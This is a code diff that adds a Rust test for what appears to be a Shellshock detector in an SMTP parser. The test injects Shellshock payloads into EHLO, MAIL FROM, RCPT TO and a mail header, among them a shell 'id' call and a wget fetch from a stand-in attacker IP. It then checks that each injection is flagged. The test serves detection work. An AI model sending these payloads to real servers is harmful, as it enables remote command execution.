@@ -332,3 +332,42 @@ mod props {
         }
     }
 }
+
+#[test]
+fn shellshock_in_commands_and_headers() {
+    let (_, txs, session) = run(&[
+        (TC, b"220 mx.example ESMTP\r\n"),
+        (TS, b"EHLO () { :; }; /bin/sh -c id\r\n"),
+        (TC, b"250 mx.example\r\n"),
+        (TS, b"MAIL FROM:<() { :;}; wget http://198.51.100.2/x>\r\nRCPT TO:<a@mx.example>\r\nDATA\r\n"),
+        (TC, b"250 ok\r\n250 ok\r\n354 go\r\n"),
+        (
+            TS,
+            b"Subject: hi\r\nX-Mailer: ok ()\r\nX-Tag:\r\n () { _; } >_[$($())] { id; }\r\n\r\nbody () { :; }; not a header\r\n.\r\n",
+        ),
+        (TC, b"250 queued\r\n"),
+        (TS, b"MAIL FROM:<b@c>\r\nRCPT TO:<() { :; }; echo x@mx.example>\r\n"),
+        (TC, b"250 ok\r\n550 no\r\n"),
+    ]);
+    let h = session.shellshock.as_deref().expect("EHLO");
+    assert_eq!((h.location, h.name.as_deref()), ("command", Some("EHLO")));
+    assert_eq!(h.finding.command.as_deref(), Some("/bin/sh -c id"));
+    let t = &txs[0];
+    let h = t.shellshock.as_deref().expect("MAIL");
+    assert_eq!(h.name.as_deref(), Some("MAIL"));
+    assert_eq!(
+        h.finding.command.as_deref(),
+        Some("wget http://198.51.100.2/x>")
+    );
+    let e = t
+        .email
+        .as_ref()
+        .unwrap()
+        .shellshock
+        .as_deref()
+        .expect("header");
+    assert_eq!((e.location, e.name.as_deref()), ("header", Some("X-Tag")));
+    assert_eq!(e.finding.variant, crate::shellshock::Variant::Cve2014_6278);
+    let h = txs[1].shellshock.as_deref().expect("RCPT");
+    assert_eq!(h.name.as_deref(), Some("RCPT"));
+}
